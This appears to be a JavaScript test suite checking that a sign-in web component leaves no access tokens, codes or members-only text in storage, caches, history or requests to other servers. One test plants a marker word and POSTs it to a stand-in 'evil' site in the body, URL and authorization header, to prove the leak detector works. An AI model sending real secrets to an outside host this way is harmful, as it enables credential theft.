import assert from 'node:assert/strict';
import { describe, it } from 'node:test';

import { SignJWT, exportJWK, generateKeyPair } from 'jose';

import {
  OPEN,
  SECRET,
  agree,
  briefingTag,
  buttonOf,
  faultsOf,
  gateTag,
  gatesOf,
  isInMemory,
  placesOf,
  press,
  sessionTag,
  shows,
  tracesOf,
  useRig,
} from './gate-rig.js';
import { startDemo, until } from './support.js';

describe('What is left of a token', () => {
  const rig = useRig();

  /** Two sessions on a page, of two providers with a feed each; each feed names the other's members' texts, too. */
  const twoSessions = async () => {
    const one = await rig.provider();
    const two = await rig.provider({ dpop: { nonce: 'both' } }, { site: 'other', at: 'other' });
    const once = { refused: false };
    // Takes a fresh token to be read.
    rig.serve('feed', `${one.base}/members/fresh`, (entry, signal) => {
      if (entry.method !== 'GET' || once.refused) return rig.providerReply(entry, signal);
      once.refused = true;
      return { status: 401, headers: OPEN };
    });
    rig.serve('feed', `${one.base}/members/broken`, (entry) => ({
      status: entry.method === 'GET' ? 500 : 204,
      headers: OPEN,
    }));
    const feedOfOne = rig.feed([one.members('good'), one.members('fresh'), one.members('broken'), two.members('good')]);
    const feedOfTwo = rig.feed([two.members('good'), one.members('good')], { site: 'other' });
    const tags = sessionTag(one, briefingTag(feedOfOne)) + sessionTag(two, briefingTag(feedOfTwo));
    const page = await rig.open(rig.page(tags));
    await shows(page, 'locked', 5);
    return { one, two, page };
  };

  it('A3 A17 no token is left anywhere, and none of one provider’s goes to the other’s servers', async () => {
    const { one, two, page } = await twoSessions();
    await press(page, 'sign-in', 0);
    await shows(page, 'unlocked', 1);
    await press(page, 'sign-in', 4);
    await shows(page, 'unlocked', 4);
    const states = (await gatesOf(page)).map(({ state }) => state);
    assert.deepEqual(states, ['unlocked', 'unlocked', 'failed', 'failed', 'unlocked', 'failed']);

    const isItsPlace = ({ base, resource }, { site, url }, place) =>
      (place === 'authorization' && resource.startsWith(`${rig.url(site)}`) && url.startsWith(`${base}/members/`)) ||
      (place === 'body' && (url === `${base}/token` || url === `${base}/revoke`));
    const left = async () => {
      const traces = await tracesOf(page);
      const places = [one, two].flatMap((op) => {
        const { tokens, codes } = op.secrets();
        const elsewhere = rig.log.map((entry) => {
          const { authorization, ...headers } = entry.headers;
          return {
            ...entry,
            headers: isItsPlace(op, entry, 'authorization') ? headers : entry.headers,
            body: isItsPlace(op, entry, 'body') ? '' : entry.body,
          };
        });
        // A code is posted, once, to the page that asked for it.
        const { posts: _posts, ...others } = traces;
        return [...placesOf(tokens, traces, elsewhere), ...placesOf(codes, others, elsewhere)];
      });
      for (const name of ['local', 'session']) assert.equal(traces[name], '[]', name);
      for (const name of ['databases', 'caches', 'cookie', 'name']) assert.equal(traces[name], '', name);
      assert.equal(traces.cookies, '[]');
      return places;
    };
    for (const op of [one, two]) assert.ok(op.secrets().tokens.length >= 6, 'there is something to look for');
    assert.equal(one.asked('/token').length, 2, 'a fresh token was asked for');
    assert.deepEqual(await left(), []);

    await press(page, 'sign-out', 0);
    await press(page, 'sign-out', 4);
    await until(() => [one, two].every((op) => op.asked('/revoke').length > 0), 'the tokens are given back');
    await until(() => rig.windows() === 1, 'the windows are closed');
    assert.deepEqual(await left(), []);

    for (const { base } of [one, two]) {
      const requests = rig.log.filter(
        ({ url, headers }) => url.startsWith(base) && headers['sec-fetch-mode'] === 'cors',
      );
      assert.ok(requests.length > 5);
      for (const { url, headers } of requests) {
        assert.equal(headers.referer, undefined, url);
        assert.equal(headers.cookie, undefined, url);
      }
    }
    assert.deepEqual(rig.evil(), []);
    assert.deepEqual(await faultsOf(page), []);
  });

  it('A3 nothing that a sign-in by a code is worth is left anywhere either', async () => {
    const op = await rig.provider();
    const page = await rig.open(rig.page(sessionTag(op, gateTag(op.members('good')), { flow: 'device' })));
    await shows(page, 'locked');
    await press(page, 'sign-in');
    await shows(page, 'unlocked');
    const { tokens } = op.secrets();
    assert.ok(tokens.length >= 6, 'there is something to look for');
    const elsewhere = rig.log.filter(({ url }) => url !== `${op.base}/token` && !url.startsWith(`${op.base}/members/`));
    assert.deepEqual(placesOf(tokens, await tracesOf(page), elsewhere), []);
    assert.deepEqual(await faultsOf(page), []);
  });

  it('A3 a word that a page leaves in any of those places is found', async () => {
    const page = await rig.open(rig.page('<div id="host"></div>'));
    await page.evaluate(async (evilSite) => {
      const word = 'Planted';
      document.getElementById('host').attachShadow({ mode: 'open' }).append(document.createElement('p'));
      document.getElementById('host').shadowRoot.firstChild.setAttribute('data-of', word);
      dispatchEvent(Object.assign(new Event('session-change'), { state: { member: { word } } }));
      console.log('a', { b: [word] });
      postMessage({ word }, '*');
      new BroadcastChannel('x').postMessage(word);
      localStorage.setItem('a', word);
      sessionStorage.setItem('a', word);
      await new Promise((resolve) => (indexedDB.open(word).onsuccess = resolve));
      await caches.open(word);
      document.cookie = `a=${word}`;
      window.name = word;
      history.replaceState({ word }, '', `?${word}`);
      history.pushState(null, '', '?');
      history.pushState({ word }, '', `#${word}`);
      const unsafe = { referrerPolicy: 'unsafe-url', referrer: `/page?${word}` };
      await fetch(`${evilSite}?${word}`, { method: 'POST', body: word, headers: { authorization: word }, ...unsafe });
      open(`/signed-in.html?${word}`)?.close();
    }, rig.url('evil'));
    const wanted = ['markup', 'posts', 'messages', 'events', 'console', 'opened', 'resources', 'local', 'session'];
    const more = ['databases', 'caches', 'cookie', 'name', 'state', 'address', 'history', 'cookies'];
    const sent = ['address', 'body', 'authorization', 'referer'].map((place) => `POST evil /: ${place}`);
    let missing = [];
    const areFound = async () => {
      const found = placesOf(['Planted'], await tracesOf(page), rig.log);
      missing = [...wanted, ...more, ...sent].filter((place) => !found.includes(place));
      return missing.length === 0;
    };
    await until(areFound, 'every place is found', 2000).catch(() => assert.deepEqual(missing, []));
  });

  for (const persist of ['memory', 'session']) {
    it(`A4 with persist="${persist}" stores hold ${persist === 'memory' ? 'nothing at any time' : 'the session from sign-in to sign-out, for the tab alone'}`, async () => {
      const op = await rig.provider({ authorize: 'button' });
      const address = rig.page(sessionTag(op, gateTag(op.members('good')), { persist }));
      const page = await rig.open(address);
      const kept = async (where = page) => {
        const { local, session, databases, caches, cookie, name, state } = await where.evaluate(() =>
          window.rig.stores(),
        );
        assert.deepEqual(
          { local, databases, caches, cookie, name, state },
          { local: '[]', databases: '', caches: '', cookie: '', name: '', state: 'null' },
        );
        return JSON.parse(session);
      };
      await shows(page, 'locked');
      assert.deepEqual(await kept(), [], 'before');

      const popup = await rig.windowBy(() => press(page, 'sign-in'));
      await buttonOf(popup);
      assert.deepEqual(await kept(), [], 'while the window is open');
      await agree(popup);
      await shows(page, 'unlocked');
      const { tokens } = op.secrets();
      const after = await kept();
      if (persist === 'memory') assert.deepEqual(after, []);
      else {
        assert.deepEqual(
          after.map(([name]) => name.startsWith(`briefing-elements/session@1 ${op.issuer} partner `)),
          [true],
        );
        assert.ok(
          tokens.some((token) => after[0][1].includes(token)),
          'the tab’s own storage has it',
        );
        // Another tab has a storage of its own.
        const other = await rig.open(address);
        await shows(other, 'locked');
        assert.deepEqual(await kept(other), []);
        await other.close();
      }

      await page.reload();
      await shows(page, persist === 'memory' ? 'locked' : 'unlocked');
      if (persist === 'memory') return;
      await press(page, 'sign-out');
      await shows(page, 'locked');
      assert.deepEqual(await kept(), [], 'after');
      await page.reload();
      await shows(page, 'locked');
      assert.deepEqual(await kept(), [], 'after a reload');
    });
  }

  it('A4 a window to sign in as somebody else takes no copy of what the tab has stored', async () => {
    const op = await rig.provider({ authorize: ['redirect', 'wait'], members: { status: 403 } });
    const page = await rig.open(rig.page(sessionTag(op, gateTag(op.members('good')), { persist: 'session' })));
    await shows(page, 'locked');
    await press(page, 'sign-in');
    await shows(page, 'not-enough');
    const popup = await rig.windowBy(() => press(page, 'sign-in'));
    await popup.goto(rig.page(''));
    const { session } = await popup.evaluate(() => window.rig.stores());
    assert.equal(session, '[]');
  });

  it('A14 the members’ text is in no answer, page, event, store or memory but while a reader may read it', async () => {
    const op = await rig.provider();
    const feed = rig.feed([op.members('good')]);
    const bodies = new Map();
    const page = await rig.open(
      rig.page(`${sessionTag(op, briefingTag(feed))}<briefing-list src="${feed}"></briefing-list>`),
    );
    const client = await page.createCDPSession();
    await client.send('Network.enable');
    client.on('Network.loadingFinished', ({ requestId }) => {
      const body = client.send('Network.getResponseBody', { requestId });
      bodies.set(
        requestId,
        body.then((answer) => (answer.base64Encoded ? atob(answer.body) : answer.body)).catch(() => ''),
      );
    });
    const places = async (log) => {
      const answers = log.map(({ reply, ...entry }) => ({ ...entry, body: `${entry.body}${reply?.body}` }));
      const own = { bodies: (await Promise.all(bodies.values())).join() };
      return placesOf([SECRET], { ...(await tracesOf(page)), ...own }, answers);
    };
    await page.reload();
    await shows(page, 'locked');
    // Who asks without a token, or with a false one, gets none of it either.
    const ask = (headers) =>
      page.evaluate(async (url, all) => (await fetch(url, { headers: all })).status, op.members('good'), headers);
    assert.deepEqual([await ask({}), await ask({ authorization: 'Bearer false' })], [401, 401]);
    assert.deepEqual(await places(rig.log), []);
    assert.equal(await isInMemory(page, SECRET), false, 'before anybody has signed in');

    await press(page, 'sign-in');
    await shows(page, 'unlocked');
    const seen = await places(rig.log);
    assert.deepEqual(seen.sort(), [`GET feed ${op.base}/members/good: body`, 'bodies', 'markup']);
    assert.equal(await isInMemory(page, SECRET), true, 'while it is read');

    await press(page, 'sign-out');
    await shows(page, 'locked');
    await until(() => rig.windows() === 1, 'the window is closed');
    bodies.clear();
    const then = rig.log.length;
    assert.deepEqual(await places(rig.log.slice(then)), []);
    assert.equal(await isInMemory(page, SECRET), false, 'after the reader has signed out');
    await page.reload();
    await shows(page, 'locked');
    assert.deepEqual(await places(rig.log.slice(then)), []);
    assert.equal(await isInMemory(page, SECRET), false, 'after a reload');
    assert.deepEqual(await faultsOf(page), []);
  });

  for (const [what, cacheControl] of [
    ['that forbids it', 'private, no-store'],
    ['that allows it by mistake', 'public, max-age=3600, immutable'],
  ]) {
    it(`A15 a members’ text is not kept in the browser’s cache, from a server ${what}`, async () => {
      const cached = { 'Cache-Control': 'max-age=3600' };
      const headers = { 'Cache-Control': cacheControl, Vary: 'Authorization' };
      const op = await rig.provider({ members: { headers } });
      const feed = rig.feed([op.members('good')], { headers: cached });
      const address = rig.page(sessionTag(op, briefingTag(feed)), { headers: cached });
      const page = await rig.signIn(address);
      const [request] = rig.asked(op.members('good'));
      assert.equal(request.reply.headers['Cache-Control'], cacheControl);
      // What a browser sends along with a request that it is to keep no answer of.
      assert.deepEqual([request.headers['cache-control'], request.headers.pragma], ['no-cache', 'no-cache']);
      const { authorization } = request.headers;
      await press(page, 'sign-out');
      await shows(page, 'locked');
      await until(() => rig.windows() === 1, 'the window is closed');

      await page.setOfflineMode(true);
      await page.goto('about:blank');
      await page.goto(address);
      await shows(page, 'locked');
      const found = placesOf([SECRET], await tracesOf(page), []);
      assert.deepEqual(found, []);
      const fromCache = (url, sent) =>
        page.evaluate(
          (...[to, more]) =>
            fetch(to, { cache: 'force-cache', headers: more }).then(
              (answer) => answer.text(),
              () => '',
            ),
          url,
          sent,
        );
      assert.match(await fromCache(feed, {}), /A briefing/, 'the feed is in the cache');
      for (const sent of [{}, { authorization }, { authorization, accept: 'application/json' }])
        assert.equal(await fromCache(op.members('good'), sent), '');
      await page.setOfflineMode(false);
      assert.deepEqual(page.faults, []);
    });
  }

  it('A15 the demo’s endpoint forbids every cache to keep its answers, whatever they are', async () => {
    const { privateKey } = await generateKeyPair('ES256', { extractable: true });
    const signingKey = { ...(await exportJWK(privateKey)), alg: 'ES256' };
    const demo = await startDemo({ signingKey });
    try {
      const address = `${demo.publisher}/members/igf-permanent/member`;
      const claims = { sub: 'reader', scope: 'members:read', tiers: ['member'] };
      const token = (issuer) =>
        new SignJWT(claims)
          .setProtectedHeader({ alg: 'ES256', typ: 'at+jwt' })
          .setIssuer(issuer)
          .setAudience(`${demo.publisher}/members/`)
          .setIssuedAt()
          .setExpirationTime('5 minutes')
          .sign(privateKey);
      const { items } = await (await fetch(`${demo.publisher}/feed.json`)).json();
      const gates = items
        .flatMap(({ _briefing: briefing }) => briefing?.gates ?? [])
        .map(({ url }) => new URL(url, demo.publisher).href);
      assert.ok(gates.length >= 3, address);
      const statuses = new Set();
      for (const url of gates.slice(0, 3)) {
        for (const authorization of [undefined, 'Bearer x', `Bearer ${await token(demo.publisher)}`]) {
          const { status, headers } = await fetch(url, authorization ? { headers: { authorization } } : {});
          statuses.add(status);
          assert.equal(headers.get('cache-control'), 'private, no-store', `${url}: ${status}`);
          assert.match(headers.get('vary'), /\bAuthorization\b/i, `${url}: ${status}`);
        }
      }
      assert.deepEqual([...statuses].sort(), [200, 401, 403]);
    } finally {
      await demo.close();
    }
  });
});
